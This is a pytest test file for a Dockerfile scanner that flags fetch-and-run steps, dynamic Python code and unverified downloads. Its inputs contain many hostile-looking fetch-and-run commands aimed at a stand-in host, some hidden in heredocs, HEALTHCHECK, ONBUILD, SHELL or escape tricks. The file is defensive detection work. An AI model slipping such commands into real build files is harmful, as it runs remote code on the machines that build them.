import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.dockerfile import READER


def read(text: str) -> set[tuple[str, int, str]]:
    notes = Notes("Dockerfile", every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line, seen.trigger) for seen in notes.observations()}


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("FROM a\nRUN --mount=type=cache,target=/x curl https://kiln.example/x | sh", (2, "import")),
        ("FROM a\nRUN a \\\n # it's\n && b \\\n\n && curl https://kiln.example/x | sh", (6, "import")),
        ('CMD ["sh", "-c", "curl https://kiln.example/x | sh"]', (1, "call")),
        ("HEALTHCHECK --interval=5s CMD curl https://kiln.example/x | sh", (1, "call")),
        ("ENV U=https://kiln.example/x S=bash\nRUN curl $U | $S", (2, "import")),
        ("RUN <<EOF\na\ncurl https://kiln.example/x | sh\nEOF\nRUN b", (3, "import")),
        ("RUN curl -o fire https://kiln.example/x\nRUN sh fire", (2, "import")),
        ("ADD https://kiln.example/x fire\nRUN sh fire", (2, "import")),
        ("ONBUILD RUN curl https://kiln.example/x | sh", (1, "import")),
        ("RUN <<-'EOF' bash -ex\ncurl https://kiln.example/x | sh\nEOF", (2, "import")),
        ("COPY --chmod=755 <<EOF /fire.sh\ncurl https://kiln.example/x | sh\nEOF\nRUN sh /fire.sh", (4, "import")),
        ('COPY <<EOF /fire.sh\ncurl https://kiln.example/x | sh\nEOF\nENTRYPOINT ["/fire.sh"]', (4, "call")),
        ('SHELL ["bash", "-c", "curl https://kiln.example/x | sh; $0"]\nRUN make', (1, "import")),
        ("# escape=`\nFROM a\nRUN curl https://kiln.example/x `\n | sh", (3, "import")),
    ],
)
def test_what_is_downloaded_and_run_is_seen(text: str, seen: tuple[int, str]) -> None:
    assert ("fetch_and_run", *seen) in read(text)


FIRE = "exec(__import__('urllib.request').request.urlopen('https://kiln.example/x').read())"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (f"RUN python3 - <<EOF\n{FIRE}\nEOF", 1),
        (f"RUN <<EOF python3\n{FIRE}\nEOF", 1),
        (f"RUN <<EOF\n#!/usr/bin/env python3\n{FIRE}\nEOF", 1),
        (f'SHELL ["python3", "-c"]\nRUN {FIRE}', 2),
    ],
)
def test_what_python_is_given_is_read_as_python(text: str, line: int) -> None:
    assert ("dynamic_code", line, "import") in read(text)


@pytest.mark.parametrize(
    "text",
    [
        'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN make',
        'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]\nRUN Get-ChildItem',
        "COPY <<EOF /etc/kiln.conf\nheat = 900\nEOF\nRUN kiln /etc/kiln.conf",
        "RUN <<EOF python3\nprint('clay')\nEOF",
    ],
)
def test_ordinary_shells_and_documents_show_nothing(text: str) -> None:
    assert not read(text)


def test_an_added_address_is_a_download_but_for_its_checksum() -> None:
    assert read("ADD https://kiln.example/x /x") == {("downloads_in_build", 1, "import")}
    assert not read("ADD --checksum=sha256:ab https://kiln.example/x /x")


def test_an_ordinary_file_shows_nothing() -> None:
    assert not read(
        'FROM a\nRUN apt-get update && apt-get install -y curl \\\n && rm -rf /var/lib/apt\nCOPY . .\nCMD ["kiln"]\n'
    )


@pytest.mark.parametrize(
    "text", ["\\\n" * 100_000, "RUN [" * 50_000, "RUN <<A\n" * 5_000, "ENV " + "a=b" * 100_000, "CMD " + "[" * 100_000]
)
def test_no_text_makes_it_raise_or_hang(text: str) -> None:
    read(text)
